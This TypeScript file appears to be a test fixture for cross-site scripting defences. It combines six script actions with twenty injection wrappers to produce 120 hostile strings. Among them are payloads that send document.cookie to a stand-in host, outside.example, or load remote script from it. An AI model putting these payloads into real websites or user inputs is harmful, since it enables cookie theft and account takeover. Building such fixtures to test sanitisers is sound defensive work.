/** What scripts would do if a text became one. Pages set `__hit` never themselves. */
const ACTIONS = [
  'alert(1)',
  '__hit=1',
  `fetch('//outside.example/'+document.cookie)`,
  `import('//outside.example/x.js')`,
  `new Image().src='//outside.example/x'`,
  `location='//outside.example/'`,
];

const AROUND: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `"><svg onload=${action}>`,
  (action) => `' autofocus onfocus=${action} x='`,
  (action) => `</title></style></textarea><script>${action}</script>`,
  (action) => `<iframe srcdoc="<script>parent.${action}</script>"></iframe>`,
  (action) => `<a href="javascript:${action}">x</a>`,
  (action) => `javascript:${action}//`,
  (action) => `[x](javascript:${action})`,
  (action) => `![x](data:text/html,<script>${action}</script>)`,
  (action) => `{{constructor.constructor("${action}")()}}`,
  (action) => `\${${action}}`,
  (action) => `<details open ontoggle=${action}>`,
  (action) => `<math><mtext><table><mglyph><style><img src=x onerror=${action}>`,
  (action) => `<template><script>${action}</script></template>`,
  (action) => `</script><script>${action}</script>`,
  (action) => `<form action="javascript:${action}"><button autofocus>x</button></form>`,
  (action) => `<object data="javascript:${action}"></object>`,
  (action) => `<link rel=stylesheet href=//outside.example/x onload=${action}>`,
  (action) => `<meta http-equiv=refresh content="0;url=javascript:${action}">`,
];

/** 120 texts that are harmless as text. */
export const HOSTILE_TEXTS: readonly string[] = AROUND.flatMap((around) => ACTIONS.map(around));
